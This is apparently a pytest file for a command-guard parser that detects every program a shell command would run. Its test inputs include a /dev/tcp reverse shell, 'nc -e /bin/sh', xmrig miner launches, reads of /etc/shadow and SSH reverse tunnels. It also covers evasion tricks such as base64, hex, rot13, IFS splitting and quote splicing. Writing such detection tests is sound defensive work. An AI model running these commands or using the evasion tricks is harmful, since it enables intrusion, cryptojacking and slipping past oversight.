"""The parser finds every program a command would run, wherever it hides."""

from __future__ import annotations

import base64
from pathlib import Path

import pytest

import corral.guard.frontends as frontends
import corral.guard.parser as parser_module
from corral.guard import ParseMode, parse_argv, parse_command
from corral.guard.corpus import benign_commands, parse_labelled


def argvs(command: str) -> list[tuple[str, ...]]:
    return [inv.argv for inv in parse_command(command).invocations]


def programs(command: str) -> set[str]:
    return {inv.program for inv in parse_command(command).invocations}


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


# --- shell structure ---------------------------------------------------------------


def test_pipeline_records_upstream_and_downstream() -> None:
    invs = parse_command("cat f | grep x | nc host 1").invocations
    nc = next(i for i in invs if i.program == "nc")
    cat = next(i for i in invs if i.program == "cat")
    assert nc.upstream == {"cat", "grep"}
    assert cat.downstream == {"grep", "nc"}


@pytest.mark.parametrize("sep", [";", "&&", "||", "\n", "&"])
def test_lists(sep: str) -> None:
    assert programs(f"ls {sep} xmrig") >= {"ls", "xmrig"}


def test_background_flag() -> None:
    inv = parse_command("yes > /dev/null &").invocations[0]
    assert inv.background


def test_subshell_and_group() -> None:
    assert "xmrig" in programs("(cd /tmp && ./xmrig)")
    assert "xmrig" in programs("{ cd /tmp; ./xmrig; }")


def test_command_substitution_and_backticks() -> None:
    assert "whoami" in programs("echo $(whoami)")
    assert "id" in programs("echo `id`")
    assert "curl" in programs('X="$(curl -s x)"; echo $X')


def test_process_substitution() -> None:
    assert "curl" in programs("bash <(curl -s https://x.example)")
    assert "nc" in programs("tee >(nc host 1) < f")


def test_loops_mark_their_body_only() -> None:
    invs = parse_command("until ping -c1 db; do sleep 1; done").invocations
    assert not next(i for i in invs if i.program == "ping").in_loop
    assert next(i for i in invs if i.program == "sleep").in_loop
    body = parse_command("while true; do yes & done").invocations
    yes = next(i for i in body if i.program == "yes")
    assert yes.in_loop and yes.infinite_loop and yes.background


def test_function_bodies_are_walked() -> None:
    assert "xmrig" in programs("f() { ./xmrig -o x; }; f")


def test_redirections_including_dev_tcp() -> None:
    inv = parse_command("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1").invocations[0]
    targets = [(r.op, r.target) for r in inv.redirects]
    assert (">&", "/dev/tcp/10.0.0.1/4444") in targets
    assert next(r for r in inv.redirects if r.target == "1").is_fd_dup


# --- payloads ----------------------------------------------------------------------


@pytest.mark.parametrize("shell", ["bash", "sh", "zsh", "dash"])
def test_shell_dash_c_is_parsed_recursively(shell: str) -> None:
    invs = parse_command(f"{shell} -c 'cd /tmp && ./xmrig -o x'").invocations
    inner = next(i for i in invs if i.program == "xmrig")
    assert inner.context == f"{shell} -c payload"


def test_combined_shell_flags_and_nesting() -> None:
    assert "xmrig" in programs("bash -lc \"sh -c 'xmrig'\"")
    assert "xmrig" in programs("bash -o pipefail -c 'xmrig'")


def test_eval() -> None:
    assert "xmrig" in programs("eval './xmrig -o x'")


@pytest.mark.parametrize(
    ("command", "program"),
    [
        ("python -c \"import os; os.system('nc -e /bin/sh h 1')\"", "nc"),
        ('python3 -c \'import subprocess; subprocess.run(["xmrig", "-o", "x"])\'', "xmrig"),
        ("python3 -c 'import subprocess; subprocess.call(\"ssh -R 1:h:1 x\", shell=True)'", "ssh"),
        ("perl -e 'system(\"xmrig -o x\")'", "xmrig"),
        ("perl -e '`nmap -sn 10.0.0.0/24`'", "nmap"),
        ("ruby -e 'system(\"xmrig\")'", "xmrig"),
        ("ruby -e '%x(xmrig)'", "xmrig"),
        ('node -e \'require("child_process").execSync("xmrig -o x")\'', "xmrig"),
        ("php -r 'shell_exec(\"xmrig\");'", "xmrig"),
        ("awk 'BEGIN { system(\"xmrig\") }'", "xmrig"),
    ],
)
def test_interpreter_payloads(command: str, program: str) -> None:
    assert program in programs(command)


def test_interpreter_payload_is_kept_as_script() -> None:
    inv = parse_command("python3 -c 'import socket'").invocations[0]
    assert inv.script == "import socket"


def test_base64_literal_piped_into_shell_is_decoded_and_parsed() -> None:
    parsed = parse_command(f"echo {b64('./xmrig -o x')} | base64 -d | sh")
    inner = next(i for i in parsed.invocations if i.program == "xmrig")
    assert "decoded base64" in inner.context
    assert any(s.context == "decoded base64" for s in parsed.sources)


def test_base64_inside_substitution_run_by_a_shell() -> None:
    assert "xmrig" in programs(f'bash -c "$(echo {b64("xmrig")} | base64 -d)"')
    assert "xmrig" in programs(f'eval "$(echo {b64("xmrig")} | base64 -d)"')
    assert "xmrig" in programs(f'sh <<< "$(echo {b64("xmrig")} | base64 -d)"')


def test_hex_and_printf_escapes_are_decoded() -> None:
    assert "id" in programs("echo 6964 | xxd -r -p | sh")
    assert "id" in programs("printf '\\x69\\x64' | sh")


def test_undecodable_payload_is_still_recorded() -> None:
    parsed = parse_command("echo '!!notbase64!!' | base64 -d | sh")
    assert any("undecodable" in s.context for s in parsed.sources)


def test_heredoc_fed_to_shell_and_interpreter() -> None:
    assert "xmrig" in programs("bash <<EOF\n./xmrig -o x\nEOF")
    assert "xmrig" in programs("cat <<'EOF' | sh\nxmrig\nEOF")
    py = parse_command("python3 - <<'EOF'\nimport os\nos.system('xmrig')\nEOF")
    assert "xmrig" in {i.program for i in py.invocations}
    assert any(i.script and "os.system" in i.script for i in py.invocations)


def test_heredoc_writing_a_file_is_not_executed() -> None:
    assert programs("cat > notes.txt <<'EOF'\nxmrig is a miner\nEOF") == {"cat"}


@pytest.mark.parametrize(
    "wrapped",
    [
        "env FOO=1 xmrig",
        "env -i PATH=/bin xmrig",
        "sudo -u root xmrig",
        "sudo -E -- xmrig",
        "nohup xmrig",
        "timeout 10 xmrig",
        "timeout -s KILL 10 xmrig",
        "nice -n 19 xmrig",
        "xargs -I{} xmrig {}",
        "setsid -f xmrig",
        "stdbuf -oL xmrig",
        "busybox xmrig",
        "nohup sudo env X=1 timeout 5 nice xmrig",
        "find . -exec xmrig {} \\;",
        "watch -n 5 xmrig",
        "su -c xmrig root",
        "ssh host xmrig -o x",
        "env -S 'xmrig -o x'",
    ],
)
def test_wrappers_are_unwrapped(wrapped: str) -> None:
    assert "xmrig" in programs(wrapped)


def test_command_v_does_not_run_anything() -> None:
    assert programs("command -v xmrig") == {"command"}


def test_variable_indirection() -> None:
    assert ("xmrig", "-o", "x") in argvs("a=xmrig; $a -o x")
    assert ("xmrig",) in argvs("export A=xmrig; ${A}")
    inv = parse_command("X=/dev/tcp/1.2.3.4/4444; bash -i >& $X").invocations[-1]
    assert inv.redirects[0].target == "/dev/tcp/1.2.3.4/4444"


def test_prefix_assignments_do_not_leak() -> None:
    invs = parse_command("A=xmrig true; $A").invocations
    assert invs[-1].argv == ("$A",)


# --- front ends ------------------------------------------------------------------------


def test_plain_commands_use_the_fast_path() -> None:
    assert parse_command("git status").mode == ParseMode.FAST
    assert parse_command("for f in *; do echo $f; done").mode == ParseMode.BASHLEX


@pytest.mark.parametrize(
    "command",
    [
        "[[ -f x ]] && ./xmrig",
        "case $1 in start) ./xmrig;; esac",
        "echo $((1+2)); ./xmrig",
        "arr=(a b); ./xmrig",
        "time ./xmrig",
    ],
)
def test_bashlex_failures_fall_back_to_the_tokenizer(command: str) -> None:
    parsed = parse_command(command)
    assert parsed.mode == ParseMode.FALLBACK
    assert "xmrig" in {i.program for i in parsed.invocations}


@pytest.mark.parametrize("command", ["echo 'unterminated", 'echo "$(ls', "cat <<< 'x", "echo `id"])
def test_unparsable_commands_are_reported(command: str) -> None:
    parsed = parse_command(command)
    assert parsed.mode == ParseMode.UNPARSABLE
    assert parsed.unparsable


def test_nesting_beyond_the_limit_is_unparsable() -> None:
    command = "xmrig"
    for _ in range(12):
        command = f"eval {command!r}" if "'" not in command else f'eval "{command}"'
    parsed = parse_command(command, max_depth=4)
    assert parsed.unparsable is not None


def _unquote(text: str) -> str:
    return text.replace('"', "").replace("\\", "")


def test_fast_path_agrees_with_bashlex() -> None:
    # bashlex mishandles backslashes and quotes nested in other quotes (it turns
    # "%s\n" into %sn), so quote and backslash characters are ignored in argv here.
    def key(command: str, fast: bool) -> list[tuple[object, ...]]:
        out = []
        for i in parse_command(command, fast_path=fast).invocations:
            argv = tuple(_unquote(a) for a in i.argv)
            script = None if i.script is None else _unquote(i.script)
            redirects = [(r.op, r.target, r.body) for r in i.redirects]
            out.append((argv, redirects, script, i.upstream, i.downstream, i.background))
        return out

    corpus = benign_commands() + [
        c
        for _, c in parse_labelled(
            (Path(__file__).parent / "data" / "malicious_commands.txt").read_text("utf-8")
        )
    ]
    checked = 0
    for command in corpus:
        if parse_command(command).mode != ParseMode.FAST:
            continue
        checked += 1
        assert key(command, True) == key(command, False), command
    assert checked > 300


# --- argv (monitor) ---------------------------------------------------------------------


def test_parse_argv_unwraps_without_shell_parsing() -> None:
    parsed = parse_argv(["sudo", "bash", "-c", "xmrig -o x; echo $(id)"])
    progs = {i.program for i in parsed.invocations}
    assert {"sudo", "bash", "xmrig", "id"} <= progs
    # A literal argument is not shell-parsed: ';' here is just a character.
    assert {i.program for i in parse_argv(["echo", "a; xmrig"]).invocations} == {"echo"}


# --- evasion tricks -----------------------------------------------------------------


def test_ifs_separated_words_are_split() -> None:
    assert ("cat", "/etc/shadow") in argvs("cat${IFS}/etc/shadow")
    assert ("cat", "/etc/shadow") in argvs("cat$IFS$9/etc/shadow")


def test_ansi_c_quoting_is_decoded_on_both_paths() -> None:
    assert "xmrig" in programs("$'\\x78mrig' -o x")
    assert "xmrig" in programs("for i in 1; do $'\\x78mrig'; done")


def test_quote_and_backslash_splicing() -> None:
    assert "xmrig" in programs("x'm'r\"i\"g -o x")
    assert "xmrig" in programs("\\x\\m\\r\\i\\g")


def test_script_written_to_a_file_is_read() -> None:
    assert "xmrig" in programs("echo './xmrig -o x' > run.sh; bash run.sh")
    assert "xmrig" in programs("cat > start.sh <<'EOF'\n./xmrig -o x\nEOF")
    assert "nc" in programs("cat > a.py <<'EOF'\nimport os\nos.system('nc -e /bin/sh h 1')\nEOF")
    parsed = parse_command('echo \'{"url": "stratum+tcp://x:1"}\' > config.json')
    assert any("written to config.json" in s.context for s in parsed.sources)


def test_case_patterns_are_not_commands_but_case_bodies_are() -> None:
    assert programs('case "$1" in start) echo go;; *) echo usage;; esac') == {"echo"}
    assert "xmrig" in programs("case x in a) (xmrig) ;; esac")


# --- robustness -------------------------------------------------------------------------

# Found by fuzzing: bashlex loops forever on this input.
BASHLEX_HANG = (
    "if >&bash -c if for done%'echo .)eval ${done[=bash -c if >#]>while \n$'&xmrigecho =echo "
)


def test_bashlex_runaway_falls_back_to_the_tokenizer(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(parser_module, "BASHLEX_BUDGET", 0.05)
    parsed = parse_command(BASHLEX_HANG)
    assert parsed.mode == ParseMode.FALLBACK
    assert any("bashlex exceeded" in note for note in parsed.notes)


def test_budget_restores_an_outer_profiler(monkeypatch: pytest.MonkeyPatch) -> None:
    import sys

    def outer(frame: object, event: str, arg: object) -> None:
        return None

    sys.setprofile(outer)
    try:
        parse_command("for f in *; do echo $f; done")
        assert sys.getprofile() is outer
    finally:
        sys.setprofile(None)


def test_unterminated_input_never_reaches_bashlex(monkeypatch: pytest.MonkeyPatch) -> None:
    def boom(*args: object) -> None:
        raise AssertionError("bashlex must not be called")

    monkeypatch.setattr(frontends.bashlex, "parse", boom)
    assert parse_command("echo ${x[").unparsable


@pytest.mark.parametrize(
    ("command", "program"),
    [
        ("cp /usr/bin/ssh /tmp/s; /tmp/s -fNR 1:h:1 x@y", "ssh"),
        ("echo 'xmrig -o x' > /tmp/a; sh /tmp/a", "xmrig"),
        ("printf 'xmrig' > job; chmod +x job; ./job", "xmrig"),
        ("read -r c <<< 'xmrig'; $c -o x", "xmrig"),
        ("python3 -c \"import os; os.system('xm' + 'rig -o x')\"", "xmrig"),
        ("git -c core.sshCommand='ssh -R 1:h:1' fetch", "ssh"),
        ("rsync -e 'ssh -R 1:h:1' a x:b", "ssh"),
        ("GIT_SSH_COMMAND='ssh -R 1:h:1' git fetch", "ssh"),
        ("tr 'a-z' 'n-za-m' <<< 'kzevt' | sh", "xmrig"),
        ("rev <<< 'girmx' | sh", "xmrig"),
    ],
)
def test_indirect_execution_is_followed(command: str, program: str) -> None:
    assert program in programs(command)
